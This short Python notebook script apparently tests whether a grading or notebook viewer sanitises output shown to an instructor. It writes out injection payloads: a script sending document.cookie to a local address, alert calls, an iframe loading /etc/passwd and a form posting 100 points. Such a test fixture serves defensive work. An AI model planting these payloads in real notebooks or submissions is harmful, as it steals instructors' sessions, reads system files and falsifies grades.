# Shows scripts, frames and forms that would run in the instructor's browser.
# ruff: noqa

# %%
from IPython.display import HTML, Javascript, display, IFrame

display(
    HTML(
        "<script>fetch('http://127.0.0.1:9/' + document.cookie)</script><img src=x onerror=alert(1)>"
    )
)
display(Javascript("alert(1)"), IFrame("file:///etc/passwd", 10, 10))
print("tried <script>alert(2)</script>")


class Shown:
    def _repr_html_(self):
        return "<form action=/submit><input name=points value=100></form>"

    def _repr_mimebundle_(self, **keywords):
        return {"application/javascript": "alert(3)", "text/html": 5}


Shown()
